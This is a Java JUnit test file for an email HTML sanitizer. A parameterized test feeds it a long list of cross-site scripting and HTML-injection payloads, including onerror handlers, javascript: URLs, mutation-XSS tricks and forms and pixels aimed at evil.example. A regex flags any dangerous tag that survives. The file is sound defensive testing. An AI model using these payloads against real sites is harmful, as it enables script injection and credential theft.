package recourse.platform;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Optional;
import java.util.regex.Pattern;

class SafeHtmlTest {
    private static final Pattern TAG = Pattern.compile("<[^>]*>");
    private static final Pattern ALIVE =
            Pattern.compile(
                    "<\\s*(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|video|audio|template)"
                            + "|\\son\\w+\\s*=|\\s(style|class|id|name|srcset|action|background|formaction)\\s*=|javascript:|data:|vbscript:|src=\"(?!/files/)",
                    Pattern.CASE_INSENSITIVE);

    private final SafeHtml safe =
            new SafeHtml(
                    id -> id.equals("kettle") ? Optional.of("/files/7") : Optional.empty(),
                    "picture not loaded:");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src='cid:kettle' onload=alert(1) style='width:9999px'>",
                "<img/src=`x`onerror=alert(1)>",
                "<image src=x onerror=alert(1)>",
                "<body onload=alert(1)>hello",
                "<svg onload=alert(1)><circle></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href=' java\nscript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='//evil.example/x'>x</a>",
                "<a href='/settings'>ours</a>",
                "<iframe src='https://evil.example'></iframe>",
                "<object data='x.swf'></object><embed src=x>",
                "<form action='https://evil.example'><input name=password><button formaction=x>go</button></form>",
                "<base href='https://evil.example/'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>body{display:none}</style>",
                "<p style='background:url(https://evil.example/x)'>x</p>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</div>",
                "<p class='admin' id='sign-in' name='csrf'>x</p>",
                "<table background='https://evil.example/x'><tr><td onclick=alert(1)>x</td></tr></table>",
                "<img src='https://evil.example/pixel.gif'>",
                "<img srcset='https://evil.example/x 2x' src='cid:other'>",
                "<video src=x onerror=alert(1)></video><audio src=x autoplay>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<template><script>alert(1)</script></template>",
                "<p title=\"--><img src=x onerror=alert(1)>\">x</p>",
                "<!--[if mso]><script>alert(1)</script><![endif]-->",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<b <script>alert(1)</script>0",
                "<<script>alert(1)//<</script>",
                "<p>\u0000<scr\u0000ipt>alert(1)</script>",
            })
    void leavesNothingAlive(String html) {
        var out = safe.of(html);
        TAG.matcher(out)
                .results()
                .forEach(tag ->
                        assertThat(ALIVE.matcher(tag.group()).find()).as(tag.group()).isFalse());
    }

    @Test
    void keepsTheLooksOfAnHonestLetter() {
        var letter =
                "<h2>Bill</h2><p>It is <b>wrong</b>.</p><ul><li>tea</li></ul><table><tbody><tr><td>5</td></tr></tbody></table>";
        assertThat(safe.of(letter)).isEqualTo(letter);
    }

    @Test
    void leadsLinksOutwardWithoutTellingWhereTheyComeFrom() {
        assertThat(safe.of("<a href=\"https://example.net/a?b=1\" target=\"_top\">x</a>"))
                .contains(
                        "href=\"https://example.net/a?b&#61;1\"",
                        "target=\"_blank\"",
                        "noopener",
                        "noreferrer",
                        "nofollow")
                .doesNotContain("_top");
    }

    @Test
    void showsOurOwnCopyOfAPictureInTheMail() {
        assertThat(safe.of("<img src=\"cid:kettle\" alt=\"a kettle\">"))
                .contains("src=\"/files/7\"", "alt=\"a kettle\"");
    }

    @Test
    void saysWhereAPictureWouldHaveToBeFetched() {
        assertThat(safe.of("<p>See <img src=\"https://example.net/k.png\" alt=\"my kettle\"></p>"))
                .isEqualTo("<p>See [picture not loaded: my kettle] </p>");
    }

    @Test
    void passesOverTheDotsByWhichSendersSpy() {
        assertThat(
                        safe.of(
                                "<p>Hello<img src=\"https://example.net/t.gif\" width=\"1\" height=\"1\"></p>"))
                .isEqualTo("<p>Hello</p>");
    }

    @Test
    void showsTheWordsPlainlyWhereTheHtmlIsTooDeep() {
        assertThat(safe.of("<div>".repeat(5_000) + "I & my kettle"))
                .isEqualTo("<pre>I &amp; my kettle</pre>");
    }

    @Test
    void showsTheWordsPlainlyWhereTheHtmlIsTooLong() {
        assertThat(safe.of("<p>word</p>".repeat(300_000)))
                .startsWith("<pre>word\n\nword")
                .doesNotContain("<p>");
    }
}
